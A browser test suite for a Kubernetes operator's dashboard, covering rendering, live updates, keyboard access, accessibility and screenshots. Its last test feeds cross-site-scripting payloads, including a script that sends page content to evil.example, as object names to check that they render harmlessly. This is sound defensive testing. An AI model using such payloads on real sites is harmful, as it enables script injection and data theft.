import { mkdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { prismStack } from "../../hooks/prismstack/index.ts";
import { parseCall } from "../../plugin/record/golden-case.ts";
import { replay } from "../../plugin/record/replay.ts";
import { readManifests } from "../../yaml/manifests.ts";
import { CLUSTER_TIMEOUT } from "../cluster.ts";
import { type Line, startLine } from "../integration/line.ts";
import { suiteWith } from "../probe/installed.ts";
import { barriers } from "./accessible.ts";
import { type Chromium, startChromium, type Watched } from "./chromium.ts";
import { type Shown, stack, startShown } from "./shown.ts";

// The dashboard as people see it: a real browser, on a whole line with emulated proxies. UPDATE=1 writes the pictures of the docs.

const ROOT = join(import.meta.dirname, "../..");
const IMAGES = join(ROOT, "docs/images");
const SAMPLES = ["tenants", "shards", "plugin-rollout"].map((name) => join(ROOT, `samples/${name}.yaml`));
const SECONDS = 1000;

suiteWith("the dashboard in Chromium", ["chromium"], (pathOf) => {
	let chromium: Chromium;
	let line: Line;
	const opened: Watched[] = [];

	beforeAll(async () => {
		chromium = await startChromium(pathOf("chromium"));
		line = await startLine({ name: "memory", metacontroller: "", dashboard: true });
		const objects = SAMPLES.flatMap(readManifests).map(({ object }) => object);
		for (const object of objects) await line.apply(object);
		for (const { kind, metadata } of objects) await line.untilReady(kind, metadata.name);
	}, CLUSTER_TIMEOUT);
	afterAll(async () => {
		await chromium?.close();
		await line?.stop();
	}, 60 * SECONDS);

	afterEach(() => chromium.leave());

	const open = async (path: string, options?: Parameters<Chromium["open"]>[1]) => {
		const watched = await chromium.open(`${line.dashboardUrl}${path}`, options);
		opened.push(watched);
		return watched.page;
	};
	const unfold = (page: Watched["page"]) =>
		page.evaluate("for (const details of document.querySelectorAll('details')) details.open = true");
	const slow = { timeout: 30 * SECONDS };

	test("shows what there is, and how it hangs together", { timeout: 60 * SECONDS }, async () => {
		const page = await open("/");
		await page.getByText("All objects of this replica are ready.").waitFor(slow);
		const card = (section: string, name: string) =>
			page.locator(`section[aria-labelledby=${section}] article`, {
				has: page.getByRole("heading", { name, exact: true }),
			});
		const shop = card("stacks", "shop");
		expect(await shop.textContent()).toMatch(/Proxies\s*2\/2/);
		for (const name of ["shop-keyvalue", "shop-orders", "tenant-acme"])
			expect(await shop.getByRole("link", { name, exact: true }).count(), name).toBe(1);
		const browse = card("shards", "cart-browse");
		for (const text of ["3/3", "prism-cart-browse-0", "prism-cart-browse-2", "postgres", "1.2.0", "pinned"])
			expect(await browse.textContent()).toContain(text);
		const rollout = card("plugins", "clickhouse");
		for (const text of ["search-asia", "search-eu", "search-us", "Updated", "3/3"])
			expect(await rollout.textContent()).toContain(text);
		const row = page.getByRole("row", { name: /tenant-acme/ });
		expect(await row.textContent()).toMatch(/acme-prod\s*stack shop\s*2\/2/);
		expect(await page.title()).toBe("✔ all ready · Prism Operator");
	});

	test("shows without a script what it shows with one", { timeout: 60 * SECONDS }, async () => {
		const [bare, full] = [await open("/", { javaScriptEnabled: false }), await open("/")];
		const headings = (page: typeof bare) => page.locator("h2,h3,td.name").allTextContents();
		expect(await headings(bare)).toEqual(await headings(full));
		expect(await bare.locator("#live").textContent()).toBe("reload to update");
	});

	test("changes by itself, and keeps what a reader opened and focused", { timeout: 120 * SECONDS }, async () => {
		const page = await open("/");
		await page.locator("#live", { hasText: "● live" }).waitFor(slow);
		await page.evaluate("document.body.setAttribute('data-mark', 'first')");
		await page.getByText("Earlier rollouts").click();
		await page.getByText("Earlier rollouts").focus();
		await page
			.getByRole("link", { name: "tenant-acme", exact: true })
			.first()
			.evaluate((link) => link.setAttribute("data-old", ""));
		// Its backend's URL carries credentials, which this installation refuses.
		await line.edit("PrismStack", "shop", (spec) => ({
			...spec,
			backends: [{ name: "redis", type: "cache", connectionString: "redis://admin:hunter2CANARY@redis:6379" }],
		}));
		await page.locator(".problems").getByText("InlineCredentials").first().waitFor(slow);
		expect(await page.locator("body").getAttribute("data-mark")).toBe("first");
		expect(await page.locator("[data-old]").count()).toBe(0);
		expect(await page.locator("details[id^=history]").getAttribute("open")).toBe("");
		expect(await page.evaluate("document.activeElement.textContent")).toBe("Earlier rollouts");
		expect(await page.title()).toMatch(/^✖ \d failing/);
		expect(await page.content()).not.toContain("CANARY");
	});

	test("keeps the focus on the object that it was on, also when others come before it", {
		timeout: 60 * SECONDS,
	}, async () => {
		const page = await open("/");
		await page.locator("#live", { hasText: "● live" }).waitFor(slow);
		await page
			.getByRole("row", { name: /tenant-acme/ })
			.getByRole("link")
			.first()
			.focus();
		await line.apply({
			apiVersion: "prism.io/v1alpha1",
			kind: "PrismNamespace",
			metadata: { name: "a-first", namespace: "default" },
			spec: { backend: "nobody-serves-it", pattern: "keyvalue", shard: { product: "cart" } },
		});
		await page.getByRole("row", { name: /a-first/ }).waitFor(slow);
		expect(await page.evaluate("document.activeElement.textContent")).toBe("tenant-acme");
		const rows = await page.locator("td.name a").allTextContents();
		expect(rows.indexOf("a-first")).toBeLessThan(rows.indexOf("tenant-acme"));
		await line.cluster.store.delete(await line.resource("PrismNamespace"), "default", "a-first");
		await page.getByRole("row", { name: /a-first/ }).waitFor({ state: "detached", ...slow });
		expect(await page.evaluate("document.activeElement.textContent")).toBe("tenant-acme");
	});

	test("tells the cause once, with who waits for it", { timeout: 60 * SECONDS }, async () => {
		const page = await open("/");
		const first = page.locator(".problems li.card").first();
		await first.getByText("BackendConfig").waitFor(slow);
		expect(await first.textContent()).toMatch(
			/Failing[\s\S]*BackendConfig shop-redis[\s\S]*InlineCredentials[\s\S]*waiting for it: PrismStack shop/,
		);
		expect(await page.locator(".problems li.card").count()).toBe(1);
	});

	test("leads by the keyboard to everything", { timeout: 60 * SECONDS }, async () => {
		const page = await open("/");
		await page.locator("#live", { hasText: "● live" }).waitFor(slow);
		const focused = () => page.evaluate<string>("document.activeElement.textContent.trim()");
		await page.keyboard.press("Tab");
		expect(await focused()).toBe("Skip to content");
		expect(await page.locator(".skip").evaluate((link) => link.getBoundingClientRect().left)).toBeGreaterThanOrEqual(0);
		await page.keyboard.press("Enter");
		expect(await page.evaluate("document.activeElement.id")).toBe("main");
		await page.keyboard.press("Tab");
		expect(await focused()).toMatch(/^\d+failing$/);
		while ((await focused()) !== "shop-redis") await page.keyboard.press("Tab");
		expect(await page.evaluate("getComputedStyle(document.activeElement).outlineStyle")).toBe("solid");
		await page.keyboard.press("Enter");
		await page.getByRole("heading", { level: 1, name: "BackendConfig shop-redis" }).waitFor(slow);
		await page.locator("#request > summary").focus();
		await page.keyboard.press("Enter");
		expect(await page.locator("#request").getAttribute("open")).toBe("");
		await page.keyboard.press("Tab");
		expect(await page.evaluate("document.activeElement.id")).toBe("request-text");
	});

	test("copies the last call as a golden case that can be replayed", { timeout: 60 * SECONDS }, async () => {
		const page = await open("/object/PrismNamespace/default/tenant-acme");
		await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin: line.dashboardUrl });
		await page.getByRole("button", { name: "Copy as golden case" }).click();
		await page.getByText("Copied as a golden case").waitFor(slow);
		const call = parseCall(await page.evaluate<string>("navigator.clipboard.readText()"), "the clipboard");
		expect(Object.keys(call.answers)).toHaveLength(2);
		expect(replay(call).changes).toEqual([]);
	});

	const looks = [
		{ look: "light", options: { colorScheme: "light" as const } },
		{ look: "dark", options: { colorScheme: "dark" as const } },
		{ look: "on a telephone", options: { viewport: { width: 360, height: 740 } } },
	];
	const paths = [
		"/",
		"/object/PrismStack/default/shop",
		"/object/PrismNamespace/default/tenant-acme",
		"/object/PrismPlugin/default/clickhouse",
		"/nowhere",
	];

	test.each(looks)(
		"has no barriers that a program can find: $look",
		{ timeout: 120 * SECONDS },
		async ({ options }) => {
			for (const path of paths) {
				const page = await open(path, options);
				await unfold(page);
				expect(await barriers(page), path).toEqual([]);
			}
		},
	);

	test("finds barriers where there are some", async () => {
		const page = await open("/");
		await page.evaluate(
			`document.querySelector("header").insertAdjacentHTML("beforeend", '<h4 id="main">x</h4><a href="#nobody"></a>')`,
		);
		expect(await barriers(page)).toHaveLength(4);
	});

	test("never said an error, broke its policy, or asked anybody else", () => {
		expect(opened.length).toBeGreaterThan(10);
		// A page that is not found is an error for the browser's console, and meant.
		const wrongs = opened.flatMap(({ wrongs: list }) => list).filter((wrong) => !/status of 404/.test(wrong));
		expect(wrongs).toEqual([]);
	});

	test("is pictured in the docs as it is", { timeout: 60 * SECONDS }, async () => {
		const pictures = [
			{
				name: "dashboard.png",
				path: "/",
				options: { colorScheme: "light" as const, viewport: { width: 1100, height: 860 } },
			},
			{
				name: "dashboard-object.png",
				path: "/object/BackendConfig/default/shop-redis",
				options: { colorScheme: "dark" as const, viewport: { width: 1100, height: 760 } },
			},
		];
		for (const { name, path, options } of pictures) {
			const page = await open(path, options);
			await page.locator("#live", { hasText: "● live" }).waitFor(slow);
			const target = join(IMAGES, name);
			if (process.env["UPDATE"] === "1") {
				mkdirSync(IMAGES, { recursive: true });
				// The page no longer replaces itself, and has no name of this machine.
				await page.evaluate("fetch = () => new Promise(() => {})");
				await page.waitForTimeout(SECONDS);
				await page.evaluate("for (const name of document.querySelectorAll('.replica')) name.textContent = 'local'");
				await page.screenshot({ path: target });
			}
			// Pixels differ with the fonts of the machine; that there is one, and a small one, does not.
			expect(statSync(target).size).toBeLessThan(200_000);
		}
	});

	describe("with names that are meant to do harm", () => {
		let shown: Shown;
		beforeAll(async () => {
			shown = await startShown();
		});
		afterAll(() => shown?.server.close());

		test("shows them, and does nothing that they say", { timeout: 60 * SECONDS }, async () => {
			const name = `"><img src=x onerror=alert(1)><script>alert(2)</script>`;
			const message = `</p><script>fetch("http://evil.example/"+document.body.innerHTML)</script><style>*{display:none}</style>`;
			const status = {
				conditions: [{ type: "Ready", status: "False", reason: name, message, lastTransitionTime: name }],
			};
			const parent = stack(
				{ patterns: [{ name, type: name, backend: message }] },
				{ name, annotations: { [name]: message } },
			);
			await shown.sync(prismStack, { ...parent, status });
			const page = await chromium.open(shown.url);
			opened.push(page);
			await page.page.locator("main h3").first().waitFor(slow);
			await page.page.locator("main h3 a").first().click();
			await page.page.locator("h1", { hasText: "onerror" }).waitFor(slow);
			await unfold(page.page);
			expect(await page.page.locator("main script, main img, main style").count()).toBe(0);
			expect(await page.page.locator("main").isVisible()).toBe(true);
			expect(page.wrongs).toEqual([]);
			await page.page.evaluate('document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>")');
			// And if it had been markup, the policy would not have let it do anything.
			await expect.poll(() => page.wrongs.length, { timeout: 10 * SECONDS }).toBeGreaterThan(0);
			expect(page.wrongs.filter((wrong) => wrong.startsWith("dialog"))).toEqual([]);
			opened.pop();
		});
	});
});
